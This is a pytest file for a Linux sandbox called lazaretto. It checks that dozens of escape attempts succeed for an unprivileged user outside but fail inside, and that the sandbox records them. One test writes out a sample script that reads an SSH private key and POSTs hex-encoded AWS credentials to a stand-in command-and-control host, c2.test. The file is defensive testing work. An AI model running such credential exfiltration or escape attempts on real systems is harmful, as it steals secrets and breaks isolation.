"""Attempts to get out. Each is made outside first, by an unprivileged user, to know that it would work there."""

import ctypes
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from lazaretto.adapters.sandbox.self_test import self_test
from lazaretto.adapters.sandbox.session import Order, run_order
from lazaretto.model.behaviour import Action

pytestmark = [pytest.mark.sandbox, pytest.mark.skipif(sys.platform != "linux", reason="Linux only")]
NOBODY = 65534
PYTHON = "/usr/bin/python3"
SCRIPTS = ("attempts.py", "attempts_more.py")


@pytest.fixture
def project():
    folder = _project()
    yield folder
    shutil.rmtree(folder)


def _project():
    folder = Path(tempfile.mkdtemp(prefix="lazaretto-"))
    folder.chmod(0o755)
    for name in SCRIPTS:
        shutil.copy(Path(__file__).with_name(name), folder)
        (folder / name).chmod(0o644)
    return folder


def serve(one, secret):
    def answer():
        while True:
            try:
                if one.type == socket.SOCK_DGRAM:
                    one.sendto(b"host", one.recvfrom(16)[1])
                else:
                    with one.accept()[0] as peer:
                        if secret is not None:
                            socket.send_fds(peer, [b"host"], [secret])
                        else:
                            peer.sendall(b"host")
            except OSError:
                return

    threading.Thread(target=answer, daemon=True).start()


@pytest.fixture(scope="module")
def host():
    """What there is to reach, by the word that stands for it in the tables below."""
    there = Path(tempfile.mkdtemp(prefix="lazaretto-host-"))
    there.chmod(0o777)
    (there / "secret").write_text("host secret")
    (there / "secret").chmod(0o644)
    secret = os.open(there / "secret", os.O_RDONLY)
    os.set_inheritable(secret, True)
    project = _project()
    memory = Path("/dev/shm", there.name)
    memory.write_text("host secret")
    memory.chmod(0o644)
    (project / "out").symlink_to(there)
    (there / "shared").write_text("")
    (there / "shared").chmod(0o666)
    os.link(there / "shared", project / "shared")
    os.mkfifo(project / "host.pipe")
    (project / "host.pipe").chmod(0o666)
    pipe = os.open(project / "host.pipe", os.O_RDONLY | os.O_NONBLOCK)
    inet, unix = socket.AF_INET, socket.AF_UNIX
    opened = [
        (inet, socket.SOCK_STREAM, ("127.0.0.1", 0)), (inet, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
        (unix, socket.SOCK_STREAM, "\0" + there.name), (unix, socket.SOCK_STREAM, str(there / "socket")),
        (unix, socket.SOCK_STREAM, "\0" + there.name + "-fd"), (unix, socket.SOCK_STREAM, str(project / "host.socket")),
    ]  # fmt: skip
    if socket.has_dualstack_ipv6():
        opened.append((socket.AF_INET6, socket.SOCK_STREAM, ("::1", 0)))
    sockets = []
    for family, kind, address in opened:
        one = socket.socket(family, kind)
        one.bind(address)
        if kind == socket.SOCK_STREAM:
            one.listen()
        serve(one, secret if str(address).endswith("-fd") else None)
        sockets.append(one)
    for one in (there / "socket", project / "host.socket"):
        one.chmod(0o777)
    key = int.from_bytes(os.urandom(3), "little") + 1
    libc = ctypes.CDLL(None)
    segment = libc.shmget(key, 4096, 0o1666)
    victim = subprocess.Popen(["/bin/sleep", f"60.{key}"], env={"LAZARETTO_PROOF": "1"}, user=_user())
    yield {
        "file": str(there / "secret"), "folder": str(there), "pid": str(victim.pid), "name": there.name,
        "tcp": str(sockets[0].getsockname()[1]), "udp": str(sockets[1].getsockname()[1]),
        "socket": str(there / "socket"), "host": socket.gethostname(), "project": project, "fd": str(secret),
        "passing": there.name + "-fd", "key": str(key), "mark": f"60.{key}",
        "tcp6": str(sockets[6].getsockname()[1]) if len(sockets) > 6 else "9",
    }  # fmt: skip
    victim.kill()
    victim.wait()
    libc.shmctl(segment, 0, None)
    for one in sockets:
        one.close()
    os.close(secret)
    os.close(pipe)
    memory.unlink()
    shutil.rmtree(there)
    shutil.rmtree(project)


def _user():
    return NOBODY if os.geteuid() == 0 else None


ATTEMPTS = [
    ("read_file", "file"), ("write_file", "folder"), ("environment",), ("other_environment", "pid"),
    ("any_environment",), ("signal", "pid"), ("ptrace", "pid"), ("read_memory", "pid"), ("loopback", "tcp"),
    ("mapped_loopback", "tcp"), ("abstract", "name"), ("socket_file", "socket"), ("datagram", "udp"),
    ("user_namespace",), ("clone_user_namespace",), ("mount",), ("io_uring",), ("keyring",), ("terminal",),
    ("netlink",), ("host_name", "host"), ("machine_id",), ("many_processes",), ("disk",),
    ("root_of_another", "pid", "file"), ("root_of_any", "file"), ("memory_file_of_another", "pid"),
    ("shared_memory_file", "name"), ("shared_memory", "key"), ("inherited_descriptor", "fd"),
    ("passed_descriptor", "passing"), ("socket_in_project",), ("pipe_in_project",), ("link_in_project",),
    ("loopback6", "tcp6"), ("userfaultfd",), ("new_privileges",), ("devices",), ("core_dump",),
    ("processes", "mark"), ("unshare_program",), ("much_memory",), ("many_files",), ("large_disk",), ("old_call",),
    ("namespace_of_another", "pid"), ("session_bus",), ("hard_link", "file"),
]  # fmt: skip
"""What should work outside; where it does not, there is no positive control on this machine, and only inside counts."""
NO_CONTROL = [
    ("vsock",), ("raw_address",), ("raw_address6",), ("bpf",), ("performance_counter",), ("packet_socket",),
    ("ping_socket",), ("raw_socket",), ("core_pattern",), ("magic_keys",), ("control_groups",), ("own_program",),
    ("file_handle",), ("namespace_of_first",), ("flush_rules",), ("set_clock",), ("x32_call",), ("kernel_messages",),
    ("foreign_resolver",), ("tunnel",), ("rebinding",), ("kill_all_others",),
]  # fmt: skip
"""Blocked for a plain user outside, too, or answered by nobody, or not to be made outside."""
KEPT = [("file_in_memory",), ("hook",), ("editor_task",), ("change_linked",), ("escapes",)]
"""What works inside by design, is recorded, and changes nothing outside."""
RECORDED = {
    (Action.FORBIDDEN, one)
    for one in (
        "ptrace", "unshare", "clone", "io_uring_setup", "keyctl", "shmget", "TIOCSTI", "socket netlink", "socket vsock",
        "socket packet", "socket raw", "userfaultfd", "bpf", "perf_event_open", "open_by_handle_at",
        "clock_settime",
    )
} | {
    (Action.RESOLVE, "rebind.test"), (Action.RESOLVE, "6b6579." * 8 + "tunnel.test"), (Action.RESOLVE, "x.test"),
}  # fmt: skip


@pytest.fixture(scope="module")
def outside(host):
    """The same attempts by a plain user, in a folder of his own."""
    with tempfile.TemporaryDirectory(prefix="lazaretto-") as name:
        folder = Path(name, "work")
        shutil.copytree(host["project"], folder, symlinks=True, ignore=lambda *_: ["host.pipe", "host.socket"])
        for special in ("host.pipe", "host.socket"):
            os.link(host["project"] / special, folder / special)
        Path(name).chmod(0o755)
        folder.chmod(0o777)
        line = [PYTHON, "attempts_more.py", _orders(ATTEMPTS, host)]
        told = subprocess.run(
            line,
            env={"LAZARETTO_PROOF": "1"},
            user=_user(),
            cwd=folder,
            capture_output=True,
            pass_fds=[int(host["fd"])],
        )
        Path(host["folder"], "written").unlink(missing_ok=True)
        return _answers(told.stdout)


@pytest.fixture(scope="module")
def inside(tools, host, outside):
    """All of them, one after the other, in one sandbox."""
    before = sorted(path.name for path in host["project"].iterdir())
    os.environ["LAZARETTO_PROOF"] = "1"
    try:
        line = (PYTHON, "attempts_more.py", _orders(ATTEMPTS + KEPT + NO_CONTROL, host))
        ran = run_order(Order(host["project"], line, seconds=120), tools)
    finally:
        del os.environ["LAZARETTO_PROOF"]
    assert sorted(path.name for path in host["project"].iterdir()) == before
    return _answers(ran.output), ran.record


def _orders(attempts, host):
    return json.dumps([[name, *(host[word] for word in words)] for name, *words in attempts])


def _answers(output):
    return dict(line.split(" ", 1) for line in output.decode(errors="replace").splitlines() if " " in line)


@pytest.mark.parametrize("name", [one[0] for one in ATTEMPTS])
def test_what_works_outside_does_not_work_inside(name, inside, outside):
    assert inside[0][name].strip("'\"").startswith("not")
    if outside[name] != "'reached'":
        pytest.skip(f"no positive control on this machine: {outside[name]}")


@pytest.mark.parametrize("name", [one[0] for one in NO_CONTROL])
def test_what_does_not_work_inside(name, inside):
    assert inside[0][name].strip("'\"").startswith("not")


@pytest.mark.parametrize("name", [one[0] for one in KEPT])
def test_what_works_inside_stays_there(name, inside, host):
    assert inside[0][name] == "'reached'"
    assert (host["project"] / "shared").read_text() == ""
    assert not Path(host["folder"], "written").exists()


def test_attempts_are_recorded(inside):
    record = inside[1]
    seen = {(event.action, event.target) for event in record.events}
    assert seen >= RECORDED
    written = {event.target.removeprefix(record.project) for event in record.events if event.action is Action.WRITE}
    assert {"/.git/hooks/post-checkout", "/.vscode/tasks.json"} <= written
    assert any(event.action is Action.MEMORY_FILE for event in record.events)
    assert record.code == 0


def test_the_recorder_is_not_exhausted(tools, project):
    """Twenty thousand opens of names that are four thousand bytes long: all counted, or said not to be."""
    script = (
        "import os\nfor n in range(20000):\n try: os.open(f'/{n:0>200}/' * 19, 0)\n except OSError: pass\nprint('end')"
    )
    told = run_order(Order(project, (PYTHON, "-c", script), seconds=60), tools)
    assert told.record.code == 0
    assert told.output == b"end\n"
    assert told.record.calls >= 20000


def test_the_self_test_holds(tools):
    self_test(tools)


def test_what_is_tried_is_recorded(tools, project):
    script = (
        'cat "$HOME/.ssh/id_ed25519" >/dev/null; echo x > .git-hook; unshare -U true;'
        f'{PYTHON} -c \'import socket, pathlib; s = socket.create_connection(("c2.test", 80));'
        ' key = pathlib.Path("/home/dev/.aws/credentials").read_bytes().hex().encode();'
        ' s.sendall(b"POST /p HTTP/1.1\\r\\nHost: c2.test\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(key) + key);'
        " print(s.recv(15))'"
    )
    told = run_order(Order(project, ("/bin/sh", "-c", script), seconds=30), tools)
    assert b"HTTP/1.1 200 OK" in told.output
    seen = {(event.action, event.target) for event in told.record.events}
    assert (Action.READ, "/home/dev/.ssh/id_ed25519") in seen
    assert (Action.WRITE, f"{told.record.project}/.git-hook") in seen
    assert (Action.FORBIDDEN, "unshare") in seen
    assert (Action.RESOLVE, "c2.test") in seen
    assert (Action.CONNECT, "c2.test:80") in seen
    (canary,) = [event for event in told.record.events if event.action is Action.CANARY]
    assert (canary.target, canary.detail) == ("c2.test:80", ".aws/credentials (hex)")
    assert told.record.programs[canary.process].path == PYTHON
    assert told.record.gaps == ()
    assert not (project / ".git-hook").exists()


def test_time_ends_everything(tools, project):
    mark = f"/bin/sleep 9{os.getpid()}"
    started = time.monotonic()
    told = run_order(Order(project, ("/bin/sh", "-c", f"setsid {mark} & {mark}"), seconds=1), tools)
    assert told.record.code is None
    assert time.monotonic() - started < 15
    assert not _running(mark)


def test_nothing_is_left_when_we_are_killed(tools, project):
    mark = f"/bin/sleep 8{os.getpid()}"
    code = (
        "from pathlib import Path; from lazaretto.adapters.sandbox.probe import probe;"
        "from lazaretto.adapters.sandbox.session import Order, run_order;"
        f"run_order(Order(Path({str(project)!r}), ('/bin/sh', '-c', 'setsid {mark} & {mark}')), probe().tools)"
    )
    ours = subprocess.Popen([sys.executable, "-c", code])
    end = time.monotonic() + 20
    while not _running(mark) and time.monotonic() < end:
        time.sleep(0.05)
    assert _running(mark)
    ours.send_signal(signal.SIGKILL)
    ours.wait()
    end = time.monotonic() + 10
    while _running(mark) and time.monotonic() < end:
        time.sleep(0.05)
    assert not _running(mark)


def _running(mark):
    wanted = mark.replace(" ", "\0").encode() + b"\0"
    for one in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if one.read_bytes() == wanted:
                return True
        except OSError:
            pass
    return False
